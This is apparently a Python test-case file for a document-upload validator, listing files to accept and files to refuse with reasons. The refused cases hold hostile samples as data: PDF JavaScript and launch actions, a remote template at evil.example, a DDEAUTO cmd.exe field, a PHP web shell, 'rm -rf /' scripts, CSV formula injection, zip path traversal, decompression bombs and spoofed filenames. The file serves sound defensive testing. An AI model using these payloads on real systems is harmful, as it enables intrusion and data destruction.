"""Files as they are uploaded: those that are let in, with their kind, and those that are not, with why.

A case is a name, the file's name, how to make it and what is expected: the code of a kind, or words of the
refusal. The names are read in test reports, so they say what the file is.
"""

from __future__ import annotations

import io
import stat
import zipfile
import zlib

from tests.records.documents import making
from tests.records.documents.cases import Case
from tests.records.documents.making import docx, exif, jpeg, open_document, pdf, png, pptx, xlsx

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _zip_with(name: str, *, mode: int = 0o644, flag: int = 0) -> bytes:
    """A Word file with one part of a special name, mode or flag."""
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as made:
        part = zipfile.ZipInfo(name)
        part.external_attr = mode << 16
        made.writestr(part, "x")
    content = bytearray(target.getvalue())
    if flag:
        at = content.rfind(b"PK\x01\x02")
        content[at + 8] |= flag
        local = content.rfind(b"PK\x03\x04")
        content[local + 6] |= flag
    return bytes(content)


def _twice() -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as made:
        made.writestr("WORD/document.xml", "<other/>")
    return target.getvalue()


def _many_parts() -> bytes:
    return docx({f"word/part{n}.xml": "x" for n in range(3001)})


LET_IN: dict[str, Case] = {
    "a PDF": Case("letter.pdf", pdf, "PDF"),
    "a PDF with its name in capitals": Case("LETTER.PDF", pdf, "PDF"),
    "a PDF of packed objects": Case(
        "a.pdf", lambda: pdf(making.packed_objects(b"1 0 << /Type /Font >>")), "PDF"
    ),
    "a PDF that opens at a page": Case("a.pdf", lambda: pdf(trailer=b"/OpenAction [3 0 R /Fit]"), "PDF"),
    "a PDF that speaks of JavaScript": Case(
        "a.pdf", lambda: pdf(b"% we do not use JavaScript here\n"), "PDF"
    ),
    "a Word file": Case("report.docx", docx, "DOCX"),
    "a Word file with a chart": Case(
        "report.docx", lambda: docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}), "DOCX"
    ),
    "a Word file with a link to a web page": Case(
        "report.docx",
        lambda: docx(
            {
                "word/_rels/document.xml.rels": '<Relationships><Relationship Type="http://x/hyperlink" '
                'Target="https://gov.uk" TargetMode="External"/></Relationships>'
            }
        ),
        "DOCX",
    ),
    "an Excel file": Case("register.xlsx", xlsx, "XLSX"),
    "a PowerPoint file": Case("training.pptx", pptx, "PPTX"),
    "an OpenDocument text": Case("letter.odt", lambda: open_document("text"), "ODT"),
    "an OpenDocument spreadsheet": Case("register.ods", lambda: open_document("spreadsheet"), "ODS"),
    "a PNG": Case("body map.png", png, "PNG"),
    "a PNG with notes": Case("a.png", lambda: png(making.chunk(b"tEXt", b"Author\x00Anna")), "PNG"),
    "a JPEG": Case("photo.jpg", jpeg, "JPEG"),
    "a JPEG named .jpeg": Case("photo.jpeg", jpeg, "JPEG"),
    "a JPEG with a place": Case("photo.jpg", lambda: jpeg(exif()), "JPEG"),
    "a JPEG with a film behind it": Case(
        "photo.jpg", lambda: jpeg(behind=b"\x00\x00\x00\x18ftypmp42" + bytes(99)), "JPEG"
    ),
    "plain text": Case("notes.txt", lambda: "He said: “I’m fine.”\r\nThen he left.".encode(), "TEXT"),
    "plain text of Windows": Case("notes.txt", lambda: "£20 and a caf\u00e9".encode("cp1252"), "TEXT"),
    "plain text in UTF-16": Case("notes.txt", lambda: "Two children".encode("utf-16"), "TEXT"),
    "plain text that begins like a picture": Case("bmi.txt", lambda: b"BMI 17, weight 31 kg", "TEXT"),
    "plain text with a smaller-than": Case("notes.txt", lambda: b"Weight < 30 kg and > 25 kg", "TEXT"),
    "a table": Case(
        "attendance.csv", lambda: b"Day,Present\n2027-01-11,-2\n2027-01-12,+44 7700 900123\n", "CSV"
    ),
    "a table with semicolons": Case("attendance.csv", lambda: b"Day;Hours\nMonday;-1,5\n", "CSV"),
}

REFUSED: dict[str, Case] = {
    "nothing": Case("empty.pdf", lambda: b"", "empty"),
    "a PDF named as a Word file": Case("letter.docx", pdf, "ends in .pdf"),
    "a PDF without an ending": Case("letter", pdf, "ends in .pdf"),
    "a PDF named as a program": Case("letter.pdf.exe", pdf, "ends in .pdf"),
    "a Word file named as a PDF": Case("letter.pdf", docx, "ends in .docx"),
    "a picture named as text": Case("photo.txt", png, "ends in .png"),
    "a PDF cut off": Case("a.pdf", lambda: pdf(end=b""), "not complete"),
    "a PDF with a tail": Case("a.pdf", lambda: pdf() + b"x" * 4096, "not complete"),
    "a PDF behind something else": Case("a.pdf", lambda: b"\x00\x01junk" + pdf(), "not what is in it"),
    "an encrypted PDF": Case("a.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), "encrypted"),
    "a PDF with a script": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/S /JavaScript /JS (app.alert(1))")), "runs"
    ),
    "a PDF with a script in disguise": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/S /J#61vaScript /J#53 (x)")), "runs"
    ),
    "a PDF with a packed script": Case(
        "a.pdf", lambda: pdf(making.packed_objects(b"1 0 << /S /JavaScript >>")), "runs"
    ),
    "a PDF that starts a program": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/S /Launch /F (cmd.exe)")), "runs"
    ),
    "a PDF with an active form": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/AcroForm << /XFA [] >>")), "runs"
    ),
    "a PDF with a film": Case("a.pdf", lambda: pdf(making.pdf_object(b"/Subtype /RichMedia")), "runs"),
    "a PDF that sends a form": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/S /SubmitForm /F (http://x)")), "runs"
    ),
    "a PDF that carries a file": Case(
        "a.pdf", lambda: pdf(making.pdf_object(b"/Type /EmbeddedFile")), "carries"
    ),
    "a PDF packed in a strange way": Case(
        "a.pdf",
        lambda: pdf(making.packed_objects(b"x", filters=b"[/ASCIIHexDecode /FlateDecode /LZWDecode]")),
        "packed",
    ),
    "a PDF that is a bomb": Case("a.pdf", lambda: pdf(making.packed_objects(making.zeros(65))), "far larger"),
    "a PDF and a zip at once": Case(
        "a.pdf", lambda: pdf() + making.package({"a.txt": "x"}, stored=True), "hidden"
    ),
    "a Word file with macros": Case("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), "macros"),
    "a Word file for macros": Case(
        "a.docx",
        lambda: making.office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"),
        "macros",
    ),
    "a Word file for macros, by its name": Case(
        "a.docm",
        lambda: making.office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"),
        "macros",
    ),
    "an Excel file with macros": Case("a.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"x"}), "macros"),
    "an Excel file with macros of the old kind": Case(
        "a.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"x"}), "macros"
    ),
    "a PowerPoint file with an ActiveX control": Case(
        "a.pptx", lambda: pptx({"ppt/activeX/activeX1.xml": b"x"}), "macros"
    ),
    "an OpenDocument text with macros": Case(
        "a.odt", lambda: open_document("text", {"Basic/Standard/Module1.xml": "x"}), "macros"
    ),
    "an OpenDocument spreadsheet with a script": Case(
        "a.ods", lambda: open_document("spreadsheet", {"Scripts/python/x.py": "x"}), "macros"
    ),
    "a Word file with an object": Case(
        "a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), "carries"
    ),
    "a Word file with a packed program": Case(
        "a.docx", lambda: docx({"word/embeddings/tool.exe": b"MZ"}), "carries"
    ),
    "a Word file with a template elsewhere": Case(
        "a.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": "<Relationships><Relationship "
                'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
                'TargetMode="External"/></Relationships>'
            }
        ),
        "fetches",
    ),
    "a Word file with a template elsewhere, the other way round": Case(
        "a.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External" '
                'Target="http://evil.example/" Type="http://x/attachedTemplate"/></Relationships>'
            }
        ),
        "fetches",
    ),
    "a Word file with a field that runs": Case(
        "a.docx",
        lambda: docx(words="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"),
        "starts a program",
    ),
    "a Word file with a password": Case("a.docx", lambda: _zip_with("word/secret.xml", flag=1), "password"),
    "a Word file with a link out of it": Case(
        "a.docx", lambda: _zip_with("word/link", mode=stat.S_IFLNK | 0o777), "leads out"
    ),
    "a Word file with a part above it": Case("a.docx", lambda: _zip_with("../../etc/passwd"), "points out"),
    "a Word file with a part at the root": Case("a.docx", lambda: _zip_with("/etc/passwd"), "points out"),
    "a Word file with the same part twice": Case("a.docx", _twice, "twice"),
    "a Word file of too many parts": Case("a.docx", _many_parts, "archive"),
    "a Word file that is a bomb": Case(
        "a.docx", lambda: docx({"word/media/a.bin": making.zeros(30)}), "far larger"
    ),
    "a Word file that is a bomb in many parts": Case(
        "a.docx", lambda: docx({f"word/media/{n}.bin": making.zeros(30) for n in range(7)}), "far larger"
    ),
    "a Word file with a tail": Case("a.docx", lambda: docx() + b"MZ program", "hidden"),
    "a Word file behind something else": Case("a.docx", lambda: b"PKjunk" + docx(), "hidden"),
    "a Word file that is damaged": Case("a.docx", lambda: docx()[:300], "damaged"),
    "an OpenDocument text with a password": Case(
        "a.odt",
        lambda: open_document("text", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "password",
    ),
    "an archive": Case("photos.zip", lambda: making.package({"a.jpg": jpeg()}), "archive"),
    "an archive named as a Word file": Case(
        "photos.docx", lambda: making.package({"a.jpg": jpeg()}), "archive"
    ),
    "a Java program": Case("tool.jar", lambda: making.package({"META-INF/MANIFEST.MF": "x"}), "archive"),
    "a program": Case("tool.exe", lambda: b"MZ\x90\x00" + bytes(99), "program"),
    "a program named as a PDF": Case("letter.pdf", lambda: b"MZ\x90\x00" + bytes(99), "program"),
    "a program of Linux": Case("tool", lambda: b"\x7fELF" + bytes(99), "program"),
    "a script": Case("run.sh", lambda: b"#!/bin/sh\nrm -rf /", "script"),
    "a script named as text": Case("run.txt", lambda: b"#!/bin/sh\nrm -rf /", "script"),
    "a shortcut": Case("a.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99), "shortcut"),
    "a Word file of the old kind": Case(
        "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "old kind"
    ),
    "an e-mail of Outlook": Case(
        "a.msg", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "old kind"
    ),
    "an e-mail": Case("a.eml", lambda: b"From: a@b.example\r\nSubject: x\r\n\r\nHello", "not kept"),
    "rich text": Case("a.rtf", lambda: b"{\\rtf1 hello}", "rich text"),
    "rich text named as text": Case("a.txt", lambda: b"{\\rtf1 hello}", "rich text"),
    "a packed file": Case("a.gz", lambda: b"\x1f\x8b\x08" + bytes(99), "archive"),
    "a 7z archive": Case("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "archive"),
    "a RAR archive": Case("a.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(99), "archive"),
    "a tar archive": Case("a.tar", lambda: bytes(257) + b"ustar\x0000" + bytes(99), "archive"),
    "a GIF": Case("a.gif", lambda: b"GIF89a" + bytes(99), "GIF"),
    "a TIFF": Case("a.tif", lambda: b"II*\x00" + bytes(99), "TIFF"),
    "a WebP picture": Case("a.webp", lambda: b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(99), "WebP"),
    "a HEIC photo": Case("a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(99), "HEIC"),
    "a film": Case("a.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(99), "recording"),
    "a voice memo": Case("a.m4a", lambda: b"\x00\x00\x00\x18ftypM4A " + bytes(99), "recording"),
    "a recording": Case("a.mp3", lambda: b"ID3\x03\x00" + bytes(99), "recording"),
    "a recording of waves": Case("a.wav", lambda: b"RIFF\x00\x00\x00\x00WAVEfmt " + bytes(99), "recording"),
    "a web page": Case("a.html", lambda: b"<!DOCTYPE html><html><script>alert(1)</script>", "not kept"),
    "a web page named as text": Case("a.txt", lambda: b"hello\n<script>alert(1)</script>", "web page"),
    "a web page in UTF-16 named as text": Case("a.txt", lambda: "<html><body>".encode("utf-16"), "web page"),
    "a picture that is a script": Case(
        "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "not kept"
    ),
    "a picture that is a script, named as a PNG": Case(
        "a.png", lambda: b"<svg onload='x()'/>", "not what is in it"
    ),
    "a page of PHP": Case("a.txt", lambda: b"<?php system($_GET[0]);", "web page"),
    "text with zeros": Case("a.txt", lambda: b"hello\x00world", "no plain text"),
    "noise named as text": Case("a.txt", lambda: bytes(range(256)) * 4, "no plain text"),
    "noise": Case("a.bin", lambda: bytes(range(1, 256)), "not kept"),
    "a table with a formula": Case("a.csv", lambda: b"Name,Note\nAnna,=HYPERLINK(1)\n", "Line 2"),
    "a table with a formula after a plus": Case("a.csv", lambda: b"Name\n+cmd|' /C calc'!A0\n", "Line 2"),
    "a table with a formula behind quotes": Case("a.csv", lambda: b'Name,Note\nAnna,"=1+1"\n', "Line 2"),
    "a table with a formula behind a space": Case("a.csv", lambda: b"Name,Note\nAnna, @SUM(A1)\n", "Line 2"),
    "a table with a full-width formula": Case("a.csv", lambda: "Name\n\uff1d1+1\n".encode(), "Line 2"),
    "a table with a formula after a tab": Case("a.csv", lambda: b"Name\tNote\nAnna\t-cmd\n", "Line 2"),
    "a PNG cut off": Case("a.png", lambda: png()[:-12], "damaged"),
    "a PNG of a billion pixels": Case("a.png", lambda: png(width=40_000, height=30_000), "pixels"),
    "a PNG without pixels": Case("a.png", lambda: png(width=0), "damaged"),
    "a PNG with a packed bomb": Case(
        "a.png",
        lambda: png(making.chunk(b"zTXt", b"a\x00\x00" + zlib.compress(making.zeros(9)))),
        "far larger",
    ),
    "a PNG with a script in a note": Case(
        "a.png", lambda: png(making.chunk(b"tEXt", b"a\x00<script>x</script>")), "hidden"
    ),
    "a PNG and a zip at once": Case(
        "a.png", lambda: png(behind=making.package({"a": "x"}, stored=True)), "hidden"
    ),
    "a PNG with a page behind it": Case("a.png", lambda: png(behind=b"<html><script>"), "hidden"),
    "a JPEG cut off": Case("a.jpg", lambda: jpeg(end=b""), "damaged"),
    "a JPEG of a billion pixels": Case("a.jpg", lambda: jpeg(width=40_000, height=30_000), "pixels"),
    "a JPEG and a zip at once": Case("a.jpg", lambda: jpeg(behind=making.package({"a": "x"})), "hidden"),
    "a JPEG with a PDF behind it": Case("a.jpg", lambda: jpeg(behind=pdf()), "hidden"),
    "a JPEG with a page in a note": Case("a.jpg", lambda: jpeg(making.segment(0xFE, b"<?php x")), "hidden"),
    "a JPEG without a picture": Case("a.jpg", lambda: b"\xff\xd8\xff\xd9", "damaged"),
}

NAMES_REFUSED = {
    "turned round": "letter\u202efdp.exe",
    "with an invisible mark": "let\u200bter.pdf",
    "with a slash": "../../etc/letter.pdf",
    "with a backslash": "C:\\letters\\letter.pdf",
    "with a zero": "letter\x00.pdf",
    "with a line end": "letter\r\nContent-Type: text/html.pdf",
    "of dots": "..",
    "of nothing": "  ",
    "too long": "a" * 200 + ".pdf",
}
